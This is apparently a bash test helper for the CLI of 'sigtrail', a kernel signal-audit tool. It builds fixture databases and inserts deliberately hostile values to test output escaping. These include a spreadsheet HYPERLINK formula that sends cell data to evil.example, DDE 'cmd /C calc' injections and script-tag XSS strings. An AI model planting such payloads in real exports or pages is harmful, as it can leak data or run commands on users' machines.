# shellcheck shell=bash
# lib.sh: shared code of the CLI tests, sourced by every tests/cli/*.sh.
#
# A CLI test builds a database without privileges, by replaying recorded
# kernel records through `sigtraild --source stdin` (fixture_db), runs the
# `sigtrail` CLI against it and checks its output and exit status. Shape:
#
#   . "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
#   fixture_db "$T/k.db"            # tests/fixtures/kernel.log, pids in kernel.env
#   run_cli who --db "$T/k.db" 143  # sets OUT, ERR, RC
#   is "$RC" 0 "who exits 0"
#   like "$OUT" 'SIGKILL' "names the signal"
#   done_testing
#
# Environment (meson sets it): SIGTRAIL (the CLI), SIGTRAILD (the daemon).
# By hand: SIGTRAIL=/tmp/cli-build/collector/cli/sigtrail \
#   SIGTRAILD=/tmp/cli-build/collector/sigtraild bash tests/cli/who.sh
# A failing test keeps its temp dir and says where.
set -u
export LC_ALL=C.UTF-8 TZ=UTC

CLI_TESTS=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
FIXTURES=$(cd "$CLI_TESTS/../fixtures" && pwd)
: "${SIGTRAIL:?SIGTRAIL must name the sigtrail CLI}"
: "${SIGTRAILD:?SIGTRAILD must name the sigtraild daemon}"
# shellcheck source=../fixtures/kernel.env
. "$FIXTURES/kernel.env"
# The schema version this build writes: one migration per schema/NNN-*.sql
# (schema/central/ holds the central schema's own).
SCHEMA_VERSION=$(find "$CLI_TESTS/../../schema" -maxdepth 1 -name '[0-9][0-9][0-9]-*.sql' | wc -l)
# FIXTURE_END: epoch seconds, 15 minutes after kernel.log's first record.
# The rows, deaths and runs that the tests add lie between the recording and
# it, so a test that wants all of them asks for --until @$FIXTURE_END: the
# CLI's default end is now, which moves away from the data as the fixture
# ages. The CLI never reports past now (a period, the coverage), so the
# clock must have passed FIXTURE_END: after a fresh recording, wait.
FIXTURE_END=$(($(sed -n '1s/.*msg=audit(\([0-9]*\)\..*/\1/p' "$FIXTURES/kernel.log") + 900))

# shellcheck source=../lib/tap.sh
. "$CLI_TESTS/../lib/tap.sh"
T=$(mktemp -d "${TMPDIR:-/tmp}/sigtrail-cli.XXXXXX")
chmod 755 "$T" # the read-only tests run a reader as another user
_cleanup() {
	local pid
	for pid in $(jobs -p); do kill "$pid" 2>/dev/null; done
	wait 2>/dev/null
	if [ "$_tap_failed" -eq 0 ]; then rm -rf "$T"; else echo "# kept $T" >&2; fi
}
trap _cleanup EXIT

# FIXTURE_END's precondition, said once rather than as a dozen failures.
[ "$(date +%s)" -ge "$FIXTURE_END" ] ||
	bail "the clock is before $(date -u -d "@$FIXTURE_END" +%FT%TZ), 15 minutes after kernel.log was recorded: the rows the tests add then are still in the future, which the CLI does not report"

done_testing() { tap_done; }

# run_cli ARGS...: run the CLI; sets OUT (stdout), ERR (stderr) and RC.
run_cli() {
	"$SIGTRAIL" "$@" >"$T/out" 2>"$T/err"
	RC=$?
	OUT=$(cat "$T/out")
	ERR=$(cat "$T/err")
}

# q DB SQL: one sqlite3 query, NULL printed as NULL.
q() { sqlite3 -batch -noheader -nullvalue NULL "$1" "$2"; }

# fixture_db PATH: the database of tests/fixtures/kernel.log (no privileges).
fixture_db() {
	"$SIGTRAILD" --foreground --source stdin --db "$1" <"$FIXTURES/kernel.log" 2>"$T/replay.log" ||
		bail "replaying kernel.log failed: $(cat "$T/replay.log")"
}

# add_run DB STARTED_MS UNTIL_MS STATUS [LOST_KERNEL]: a coverage row, as
# the daemon records one per run (status running|stopped|crashed).
add_run() {
	local ended=NULL stopped=NULL
	[ "$4" != running ] && ended="'$4'" && stopped=$3
	sqlite3 "$1" "insert into collector_runs(started_ms, heartbeat_ms, stopped_ms, ended, source,
		pid, version, events, rows, lost_kernel) values ($2, $3, $stopped, $ended, 'unicast',
		4321, 'test', 10, 12, ${5:-0})"
}

# add_hostile_rows DB: rows whose sender command line, comm and exe and
# target comm are hostile: spreadsheet formulas, CSV and JSON syntax,
# control and escape sequences, invalid UTF-8, U+2028, HTML. One row per
# value, copied from the first row of DB, a second apart.
add_hostile_rows() {
	sqlite3 "$1" <<'SQL'
create temp table h(v text);
insert into h values
	('=HYPERLINK("http://evil.example/?"&A1,"click")'), ('+1+1'),
	('-2+3+cmd|'' /C calc''!A0'), ('@SUM(1+1)*cmd|'' /C calc''!A0'),
	(char(9) || '=1+1 tab'), (char(13) || '=1+1 cr'), (char(10) || '=1+1 lf'),
	('''quoted already'), ('comma, "quote" and' || char(13) || char(10) || 'newline'),
	('  =spaces first'), (cast(x'626164ff20c0af2062797465732e' as text)),
	('ctl ' || char(1) || char(27) || '[31m red' || char(127) || ' del'),
	('sep ' || char(8232) || ' ' || char(8233)), ('emoji 💀 and é'), ('＝1+1 full width'),
	('<script>alert(1)</script>&amp;'), ('back\slash \x41 "json" \u0041'), ('|md|`code`*b*_i_');
insert or ignore into strings(value) select v from h;
insert into signal_rows(epoch_ms, serial, host_s, arch_s, syscall_s, signal, success, errno_s,
	target_arg, sender_pid, sender_ppid, sender_uid, sender_euid, sender_user_s, sender_comm_s,
	sender_exe_s, sender_cmdline_s, target_pid, target_uid, target_user_s, target_comm_s)
select r.epoch_ms + 60000 + 1000 * s.id, 800000 + s.id, r.host_s, r.arch_s, r.syscall_s, 9, 1,
	NULL, r.target_arg, 4000 + s.id, 1, 1000, 1000, r.sender_user_s, s.id, s.id, s.id,
	5000 + s.id, 0, r.target_user_s, s.id
from strings s, (select * from signal_rows order by id limit 1) r
where s.value in (select v from h);
SQL
}

# rich_db PATH: a database that looks like a month on a busy server: 3000
# rows over the 30 days before the recorded events of kernel.log (KILL, TERM,
# HUP, USR1, INT, STOP from several users and programs to several services,
# some refused), a hostile command line, and collector runs with a gap and a
# crashed run that lost events. Its clock is the recording's, never the
# machine's: the month ends where kernel.log begins, so the recorded events
# stay the newest whatever the date, and the last run's heartbeat is at
# FIXTURE_END. Ask with --until @$FIXTURE_END and
# --since @$((FIXTURE_END - N * 86400)), not --since Nd.
rich_db() {
	local t0 end_ms=$((FIXTURE_END * 1000)) day=86400000
	fixture_db "$1"
	add_hostile_rows "$1"
	t0=$(q "$1" 'select min(epoch_ms) from signal_rows')
	sqlite3 "$1" "delete from collector_runs"
	sqlite3 "$1" <<SQL
insert or ignore into strings(value) values ('alice'), ('bob'), ('deploy'), ('postgres'),
	('systemd'), ('supervisord'), ('cron'), ('python3'), ('nginx'), ('java'), ('EPERM'),
	('/usr/lib/systemd/systemd'), ('/usr/bin/supervisord'), ('/usr/sbin/cron'),
	('/usr/bin/python3'), ('systemctl stop nginx'), ('/usr/bin/supervisord -c /etc/supervisor.conf'),
	('/bin/sh -c kill -9 \$(pgrep -f java)'), ('python3 /opt/cleanup.py --force'),
	('/usr/sbin/CRON -f'), ('<script>alert("xss")</script>');
create temp table v(k, n, value);
insert into v select 'user', row_number() over (order by id) - 1, id from strings where value in ('alice', 'bob', 'deploy', 'postgres', 'root');
insert into v select 'comm', row_number() over (order by id) - 1, id from strings where value in ('systemd', 'supervisord', 'cron', 'python3', 'sh');
insert into v select 'cmd', row_number() over (order by id) - 1, id from strings where value in ('systemctl stop nginx',
	'/usr/bin/supervisord -c /etc/supervisor.conf', '/bin/sh -c kill -9 \$(pgrep -f java)',
	'python3 /opt/cleanup.py --force', '/usr/sbin/CRON -f', '<script>alert("xss")</script>');
insert into v select 'target', row_number() over (order by id) - 1, id from strings where value in ('nginx', 'postgres', 'java', 'python3', 'sleep');
with recursive n(i) as (select 0 union all select i + 1 from n where i < 2999)
insert into signal_rows(epoch_ms, serial, host_s, arch_s, syscall_s, signal, success, errno_s,
	target_arg, sender_pid, sender_ppid, sender_uid, sender_euid, sender_user_s, sender_login_s,
	sender_comm_s, sender_exe_s, sender_cmdline_s, target_pid, target_uid, target_user_s, target_comm_s, count)
select $t0 - 30 * $day + i * (30 * $day / 3000) + (i * 7919) % 600000,
	2000000 + i, r.host_s, r.arch_s, r.syscall_s,
	case when i % 7 in (0, 3) then 15 when i % 11 = 0 then 1 when i % 13 = 0 then 10
	     when i % 17 = 0 then 19 when i % 19 = 0 then 2 else 9 end,
	case when i % 23 = 0 then 0 else 1 end,
	case when i % 23 = 0 then (select id from strings where value = 'EPERM') end,
	10000 + i % 500, 20000 + i % 97, 1, 1000 + i % 5, 1000 + i % 5,
	(select value from v where k = 'user' and n = i % 5),
	(select value from v where k = 'user' and n = (i / 3) % 5),
	(select value from v where k = 'comm' and n = (i * i) % 5), r.sender_exe_s,
	(select value from v where k = 'cmd' and n = (i * 3) % 6),
	10000 + i % 500, 0, r.target_user_s,
	(select value from v where k = 'target' and n = (i / 2) % 5),
	case when i % 97 = 0 then 25 else 1 end
from n, (select * from signal_rows order by id limit 1) r;
insert into collector_runs(started_ms, heartbeat_ms, stopped_ms, ended, source, pid, version,
	events, rows, lost_kernel, lost_queue)
values ($end_ms - 31 * $day, $end_ms - 12 * $day, $end_ms - 12 * $day, 'stopped', 'unicast', 811, '0.1.0', 1700, 1800, 0, 0),
	($end_ms - 10 * $day, $end_ms - 6 * $day, $end_ms - 6 * $day, 'crashed', 'multicast', 912, '0.1.0', 500, 520, 14, 3);
insert into collector_runs(started_ms, heartbeat_ms, source, pid, version, events, rows)
values ($end_ms - 6 * $day + 5000, $end_ms, 'unicast', 1013, '0.1.0', 800, 820);
SQL
}

# shifted_log OFFSET...: tests/fixtures/kernel.log once per OFFSET, its audit
# serials moved by OFFSET, so that each copy is new events.
shifted_log() {
	local d
	for d in "$@"; do
		awk -v d="$d" '{ match($0, /:[0-9]+\)/); s = substr($0, RSTART + 1, RLENGTH - 2) + d;
			print substr($0, 1, RSTART) s substr($0, RSTART + RLENGTH - 1) }' "$FIXTURES/kernel.log"
	done
}

# alive PID: the process exists and is not a zombie.
alive() {
	local stat
	stat=$(cat "/proc/$1/stat" 2>/dev/null) || return 1
	stat=${stat##*) }
	[ "${stat%% *}" != Z ]
}

# slow_feed FILE SECONDS_PER_EVENT: print FILE, pausing after each event.
slow_feed() {
	local line
	while IFS= read -r line; do
		printf '%s\n' "$line"
		case $line in *EOE*) sleep "$2" ;; esac
	done <"$1"
}

# deaths_db PATH: the database of kernel.log (schema 3) plus what the daemon's
# process table and death tracker would have added, written by hand until
# sigtraild fills them itself: the ancestry, target and unit columns of the
# SIGKILL that killed $SH_VICTIM (sent by `sh -c kill -9`, started by a
# cleanup script that cron started) and one death of each cause:
#   $SH_VICTIM    SIGKILL, signal: signal row of `sh -c kill -9`, with ancestry
#   $EPERM_VICTIM SIGKILL, signal: the sigsend32 tgkill row, no ancestry
#   4000 java     SIGKILL, oom in /system.slice/app.service (512 MiB)
#   4100 segv     SIGSEGV, crash, core dumped, ANOM_ABEND serial 9100
#   4201, 4202    SIGKILL, pidns-teardown of namespace 4026532999
#   4300 yes      SIGPIPE, kernel
deaths_db() {
	fixture_db "$1"
	local kill_id eperm_id t
	kill_id=$(q "$1" "select id from signals where target_pid = $SH_VICTIM and signal = 9")
	eperm_id=$(q "$1" "select id from signals where target_pid = $EPERM_VICTIM and signal = 9")
	t=$(q "$1" "select epoch_ms from signals where id = $kill_id")
	sqlite3 "$1" <<SQL
insert or ignore into strings(value) values ('sh[144] ← cleanup.sh[120] ← cron[812] ← systemd[1]'),
	('/usr/bin/sleep'), ('sleep 1000'), ('cron.service'), ('app.service'), ('cleanup.sh'),
	('/usr/bin/bash'), ('/bin/bash /opt/cleanup.sh --all'), ('cron'), ('/usr/sbin/cron'),
	('/usr/sbin/cron -f'), ('systemd'), ('/usr/lib/systemd/systemd'), ('/sbin/init splash'),
	('java'), ('/usr/bin/java'), ('java -Xmx8g -jar /opt/app/app.jar'), ('CONSTRAINT_MEMCG'),
	('/system.slice/app.service'), ('segv'), ('/opt/bin/segv'), ('/opt/bin/segv --crash'),
	('worker'), ('/usr/bin/worker'), ('worker --id 1'), ('worker --id 2'),
	('yes'), ('/usr/bin/yes'), ('yes'), ('app'), ('deadbeefcafe0123'), ('sleep'), ('root'),
	('kill'), ('sigsend32'), ('144@123400/120@123000/812@2000/1@1');
create temp table s(k text primary key, v int);
insert into s select value, id from strings;
update signal_rows set
	sender_ancestry_s = (select v from s where k = 'sh[144] ← cleanup.sh[120] ← cron[812] ← systemd[1]'),
	target_exe_s = (select v from s where k = '/usr/bin/sleep'),
	target_cmdline_s = (select v from s where k = 'sleep 1000'),
	target_start_time = 123456,
	sender_unit_s = (select v from s where k = 'cron.service'),
	target_unit_s = (select v from s where k = 'app.service'),
	target_container_s = (select v from s where k = 'deadbeefcafe0123'),
	sender_chain_s = (select v from s where k = '144@123400/120@123000/812@2000/1@1')
where id = $kill_id;
insert into ancestry_rows(chain_s, depth, pid, start_time, comm_s, exe_s, cmdline_s)
select sender_chain_s, 0, sender_pid, 123400, sender_comm_s, sender_exe_s, sender_cmdline_s
	from signal_rows where id = $kill_id;
insert into ancestry_rows(chain_s, depth, pid, start_time, comm_s, exe_s, cmdline_s)
select r.sender_chain_s, a.depth, a.pid, a.st, (select v from s where k = a.c),
	(select v from s where k = a.e), (select v from s where k = a.m)
from signal_rows r, (select 1 as depth, 120 as pid, 123000 as st, 'cleanup.sh' as c,
		'/usr/bin/bash' as e, '/bin/bash /opt/cleanup.sh --all' as m
	union all select 2, 812, 2000, 'cron', '/usr/sbin/cron', '/usr/sbin/cron -f'
	union all select 3, 1, 1, 'systemd', '/usr/lib/systemd/systemd', '/sbin/init splash') a
where r.id = $kill_id;
insert into death_rows(epoch_ms, host_s, pid, start_time, signal, core_dumped, uid, user_s, comm_s,
	exe_s, cmdline_s, ppid, pidns, nspid, cause, signal_id, evidence, abend_serial, oom_constraint_s,
	oom_memcg_s, oom_task_memcg_s, oom_rss_kb, unit_s, container_s) values
	($t + 6, (select host_s from signal_rows where id = $kill_id), $SH_VICTIM, 123456, 9, 0, 0,
		(select v from s where k = 'root'), (select v from s where k = 'sleep'),
		(select v from s where k = '/usr/bin/sleep'), (select v from s where k = 'sleep 1000'),
		130, 4026531836, 143, 'signal', $kill_id,
		'signal row $kill_id: SIGKILL from sh[144], 6 ms before the death, target start time 123456 matches',
		NULL, NULL, NULL, NULL, NULL, (select v from s where k = 'app.service'),
		(select v from s where k = 'deadbeefcafe0123')),
	((select epoch_ms from signal_rows where id = $eperm_id) + 2, NULL, $EPERM_VICTIM, NULL, 9, 0,
		65534, NULL, (select v from s where k = 'sleep'), NULL, NULL, 150, NULL, NULL, 'signal', $eperm_id,
		'signal row $eperm_id: SIGKILL from sigsend32[162], 2 ms before the death, start time unknown: pid reuse not excluded',
		NULL, NULL, NULL, NULL, NULL, NULL, NULL),
	($t + 60000, NULL, 4000, 555000, 9, 0, 1001, (select v from s where k = 'app'),
		(select v from s where k = 'java'), (select v from s where k = '/usr/bin/java'),
		(select v from s where k = 'java -Xmx8g -jar /opt/app/app.jar'), 1, 4026531836, 4000, 'oom', NULL,
		'kernel log: the OOM killer killed 4000 (java), 3 ms before the death, CONSTRAINT_MEMCG, memory cgroup /system.slice/app.service at its limit, rss 524288 kB',
		NULL, (select v from s where k = 'CONSTRAINT_MEMCG'),
		(select v from s where k = '/system.slice/app.service'),
		(select v from s where k = '/system.slice/app.service'), 524288,
		(select v from s where k = 'app.service'), NULL),
	($t + 120000, NULL, 4100, 556000, 11, 1, 1000, NULL, (select v from s where k = 'segv'),
		(select v from s where k = '/opt/bin/segv'), (select v from s where k = '/opt/bin/segv --crash'),
		4099, 4026531836, 4100, 'crash', NULL,
		'SIGSEGV with no recorded sender; core dumped; ANOM_ABEND audit record 9100',
		9100, NULL, NULL, NULL, NULL, NULL, NULL),
	($t + 180000, NULL, 4201, 557000, 9, 0, 0, (select v from s where k = 'root'),
		(select v from s where k = 'worker'), (select v from s where k = '/usr/bin/worker'),
		(select v from s where k = 'worker --id 1'), 4200, 4026532999, 2, 'pidns-teardown', NULL,
		'SIGKILL with no recorded sender; its pid namespace 4026532999 lost its init sh[4200], which exited 1 ms before the death (exit status 0); reaped by the kernel, as a dying namespace does',
		NULL, NULL, NULL, NULL, NULL, NULL, (select v from s where k = 'deadbeefcafe0123')),
	($t + 180001, NULL, 4202, 557001, 9, 0, 0, (select v from s where k = 'root'),
		(select v from s where k = 'worker'), (select v from s where k = '/usr/bin/worker'),
		(select v from s where k = 'worker --id 2'), 4200, 4026532999, 3, 'pidns-teardown', NULL,
		'SIGKILL with no recorded sender; its pid namespace 4026532999 lost its init sh[4200], which exited 2 ms before the death (exit status 0); reaped by the kernel, as a dying namespace does',
		NULL, NULL, NULL, NULL, NULL, NULL, (select v from s where k = 'deadbeefcafe0123')),
	($t + 240000, NULL, 4300, 558000, 13, 0, 1000, NULL, (select v from s where k = 'yes'),
		(select v from s where k = '/usr/bin/yes'), (select v from s where k = 'yes'), 4299,
		4026531836, 4300, 'kernel', NULL,
		'SIGPIPE with no recorded sender: a write to a pipe nobody reads',
		NULL, NULL, NULL, NULL, NULL, NULL, NULL);
SQL
}
